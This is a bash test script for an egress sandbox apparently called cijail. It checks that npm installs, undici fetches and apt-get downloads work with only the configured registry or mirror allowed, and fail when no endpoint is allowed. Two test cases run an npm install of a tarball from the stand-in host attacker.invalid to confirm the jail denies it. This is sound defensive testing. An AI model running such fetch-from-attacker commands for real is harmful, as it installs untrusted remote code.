#!/usr/bin/env bash
# timeout: 900
# Real jobs in the machine's own network: npm and apt against the registries that they are configured with here.
# No host is written down: every address comes from the tools' own configuration.
. "$(dirname "$0")/../lib/lib.sh"
in_real_network
export HOME=$T_TMP npm_config_cache=$T_TMP/cache npm_config_update_notifier=false npm_config_fund=false npm_config_audit=false
unset CIJAIL_ENDPOINTS
registry=$(npm config get registry)

t_case 'the registry and the mirror are configured'
t_match "$registry" '^https?://'
t_true test -x /usr/bin/apt-get

t_case 'npm install of some hundred packages from an empty cache, with only the registry allowed'
mkdir project && cd project && npm init -y >/dev/null
T_LIMIT=400 run cijail -e "$registry" -- npm install express webpack
t_status 0
t_denials 0
t_true test -e node_modules/express/package.json
t_true test -e node_modules/webpack/package.json
packages=$(grep -c '"node_modules/' package-lock.json)
echo "# $packages packages in $ms ms"
t_true test "$packages" -ge 100
run cijail -- node -e 'console.log(typeof require("express"), typeof require("webpack"))'
t_eq "$out" 'function function'

t_case 'the same without an endpoint fails, fast'
rm -rf "$T_TMP/cache" node_modules package-lock.json
T_LIMIT=100 run cijail -- npm install express --fetch-retries=0
t_assert 'npm succeeded' test "$status" != 0
t_match "$err" 'deny .*[a-z]'
t_under 20000
t_false test -e node_modules/express

t_case 'a dependency from elsewhere is denied'
T_LIMIT=100 run cijail -e "$registry" -- npm install https://attacker.invalid/evil.tgz --fetch-retries=0
t_assert 'npm succeeded' test "$status" != 0
t_match "$err" 'deny .*attacker\.invalid'

t_case "Node's fetch through a proxy agent of undici"
T_LIMIT=100 run cijail -e "$registry" -- npm install undici@6
t_status 0
cat >fetch.js <<'END'
const {fetch, EnvHttpProxyAgent} = require("undici");
fetch(process.argv[2], {dispatcher: new EnvHttpProxyAgent()}).then(async r => console.log(r.status, (await r.json()).name),
    e => { console.log(e.cause || e); process.exit(1); });
END
run cijail -e "$registry" -- node fetch.js "${registry%/}/express"
t_eq "$out" '200 express'
run cijail -e "${registry%/}/webpack" -- node fetch.js "${registry%/}/express"
t_status 1
t_match "$err" 'deny - GET .*/express$'
cd ..

t_case 'npm install in a dry run, learned; the same from an empty cache under what was learned'
mkdir learned && cd learned && npm init -y >/dev/null
rm -rf "$T_TMP/cache"
T_LIMIT=300 run cijail --dry-run --learn ./policy -- npm install express
t_status 99
t_true test -e node_modules/express/package.json
lines=$(grep -cE '^[^#]' policy)
echo "# $lines lines of policy"
t_true test "$lines" -ge 1 -a "$lines" -le 20
rm -rf "$T_TMP/cache" node_modules package-lock.json
T_LIMIT=300 run cijail --fail-on-deny -p ./policy -- npm install express
t_status 0
t_denials 0
t_true test -e node_modules/express/package.json
run cijail --fail-on-deny -p ./policy -- sh -c 'npm install https://attacker.invalid/evil.tgz --fetch-retries=0; true'
t_status 98
cd ..

t_case 'apt-get download with only the mirror allowed'
mkdir apt && cd apt
package=hello
apt-cache show "$package" >/dev/null 2>&1 || package=$(apt-cache pkgnames | grep -xE 'hostname|sed|grep|gzip|bsdutils' | head -n 1)
uri=$(apt-get download --print-uris "$package" 2>/dev/null | sed -n "s/^'\\([^']*\\)'.*/\\1/p" | head -n 1)
t_match "$uri" '^https?://'
site=$(apt-cache policy "$package" >/dev/null; apt-get indextargets --format '$(SITE)' 2>/dev/null | sort -u | while read -r s; do [[ $uri == "$s"* ]] && echo "$s"; done | head -n 1)
site=${site:-${uri%/*}}
T_LIMIT=200 run cijail -e "${site%/}/" -- apt-get download -q -o APT::Sandbox::User= "$package"
t_status 0
t_true test -e "$(echo *.deb)"
t_denials 0
run dpkg-deb --info ./*.deb
t_status 0

t_case 'the same without an endpoint fails, fast'
rm -f ./*.deb
T_LIMIT=200 run cijail -- apt-get download -q -o Acquire::Retries=0 "$package"
t_assert 'apt-get succeeded' test "$status" != 0
t_match "$err" 'deny'
t_under 20000

if ((EUID == 0)); then
    t_case "as root, apt's own unprivileged user works in the jail"
    chmod 755 "$T_TMP" . && chown _apt . 2>/dev/null
    T_LIMIT=200 run cijail -e "${site%/}/" -- apt-get download -q "$package"
    t_status 0
    t_no_match "$err" 'unsandboxed'
    t_true test -e "$(echo *.deb)"
fi

t_done
